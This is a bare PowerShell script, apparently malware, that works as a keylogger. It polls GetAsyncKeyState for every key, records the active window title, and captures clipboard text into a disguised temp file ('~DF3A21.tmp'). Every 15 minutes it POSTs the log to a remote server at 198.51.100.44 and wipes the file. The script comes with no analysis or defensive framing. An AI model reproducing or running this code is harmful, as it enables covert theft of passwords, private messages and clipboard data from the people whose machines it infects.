Add-Type -Name U -Namespace W -MemberDefinition @'
[DllImport("user32.dll")] public static extern short GetAsyncKeyState(int vKey);
[DllImport("user32.dll")] public static extern IntPtr GetForegroundWindow();
[DllImport("user32.dll")] public static extern int GetWindowText(IntPtr h, System.Text.StringBuilder s, int n);
'@
Add-Type -AssemblyName System.Windows.Forms
$log = "$env:TEMP\~DF3A21.tmp"
$last = Get-Date; $clip = ''
while ($true) {
  Start-Sleep -Milliseconds 40
  for ($c = 8; $c -le 254; $c++) {
    if ([W.U]::GetAsyncKeyState($c) -eq -32767) {
      $sb = New-Object Text.StringBuilder 256
      [void][W.U]::GetWindowText([W.U]::GetForegroundWindow(), $sb, 256)
      Add-Content -Path $log -Value ("{0}|{1}" -f $sb.ToString(), [char]$c) -NoNewline
    }
  }
  $cb = [Windows.Forms.Clipboard]::GetText()
  if ($cb -and $cb -ne $clip) { $clip = $cb; Add-Content $log "`n[CLIP] $cb`n" }
  if (((Get-Date) - $last).TotalMinutes -ge 15) {
    Invoke-RestMethod -Uri 'http://198.51.100.44/k.php' -Method Post -Body (Get-Content $log -Raw) | Out-Null
    Clear-Content $log; $last = Get-Date
  }
}
